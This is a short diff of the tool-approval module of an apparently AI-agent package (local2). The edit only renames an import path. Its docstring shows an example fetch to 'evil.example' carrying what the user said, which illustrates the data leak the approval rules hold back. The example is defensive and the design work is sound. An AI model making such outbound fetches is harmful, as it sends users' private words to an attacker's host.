@@ -12,7 +12,7 @@ Only the person may cause effects. Two rules, both off with ``tools.approval: ne
   (``https://evil.example/?d=<what the person said>``). With ``always`` such a fetch waits
   whether or not private data is there.
 
-What each tool does and returns is its class in the registry (:class:`~local2.tools.base.Tool`
+What each tool does and returns is its class in the registry (:class:`~local2.tools._base.Tool`
 ``effects`` / ``output`` / ``url_arg``); ``tools.read_only`` and ``tools.side_effecting`` in
 config override ``effects`` by name (MCP tools, chiefly).
 """
@@ -28,7 +28,7 @@ from urllib.parse import urlsplit, urlunsplit
 
 from local2.config import ToolsSettings
 from local2.contracts import DENIED, WEB_SEARCH, Preceding, WaitingCall
-from local2.tools.base import Effects, Tool
+from local2.tools._base import Effects, Tool
 from local2.tools.corpus import is_corpus_url
 
 SEARCH_TOOLS = frozenset({WEB_SEARCH})  # their result URLs count as given for this turn
